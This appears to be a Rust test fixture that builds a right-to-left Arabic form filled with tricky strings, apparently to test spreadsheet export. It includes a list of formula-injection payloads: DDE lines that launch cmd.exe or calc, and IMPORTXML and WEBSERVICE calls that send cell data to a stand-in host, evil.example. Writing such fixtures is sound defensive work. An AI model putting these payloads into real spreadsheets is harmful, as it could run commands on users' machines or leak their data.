//! Texts that a spreadsheet might make something else of.

use documents::sheet::{Book, Entry, Grid, Row};

use crate::books::book;

/// Texts that a spreadsheet might make something else of.
pub fn odd_texts() -> Vec<String> {
    let texts = [
        "two\nlines",
        "a & b < c > d \"quoted\" 'so'",
        "_x0041_ and _x000D_ and _x",
        "<r><t>not marked up</t></r>",
        "<r></r>",
        "007",
        "1-2",
        "TRUE",
        "1e5",
        "مدينة متعلّمة",
        "👩‍🏫 学习 ไทย",
        "'quoted",
        "#REF!",
    ];
    let mut texts: Vec<String> = texts.map(str::to_owned).into();
    texts.push("long ".repeat(6_000).trim_end().to_owned());
    texts
}

/// What spreadsheets take for a formula, or would be glad to.
pub const PAYLOADS: [&str; 40] = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=2+5+cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=",
    "==1",
    "='=1",
    "'=1+1",
    "\"=1+1\"",
    "{=1+1}",
    "=1+1;",
    "=IMPORTXML(CONCAT(\"http://evil.example?\",A1),\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
    "=rundll32|'x'!A",
    "-2+3+cmd|' /C calc'!A0",
    "=A1:XFD1048576",
    "=SUM(A:A)",
    "=NOW()",
    "=INDIRECT(\"A1\")",
    "=_xlfn.X()",
    "=\u{202e}1+1",
    "=1\u{0}",
    "<f>1+1</f>",
    "</t></si><f>1+1</f>",
    "<r><f>=1+1</f></r>",
];

/// A book that runs from right to left, with every odd text in a field of its own.
pub fn odd_book() -> Book {
    let mut texts = odd_texts();
    texts.extend(PAYLOADS.map(str::to_owned));
    // What no form stores: characters that steer the display, and blanks at the ends.
    texts.retain(|it| !it.contains(['\u{202e}', '\0', '\r', '\t', '\u{feff}']));
    let row = |(n, text): (usize, String)| Row {
        key: format!("q{n}"),
        mark: format!("{n}.ab"),
        label: text.clone(),
        entries: vec![
            Entry::Text { text: text.trim().to_owned(), lines: 3 },
            Entry::One { text: "نعم".into(), of: vec!["نعم".into(), "لا".into()] },
        ],
        ..Row::default()
    };
    let one = book("استمارة");
    let grid =
        Grid { rows: texts.into_iter().enumerate().map(row).collect(), ..one.grids[0].clone() };
    Book { rtl: true, grids: vec![grid], ..one }
}
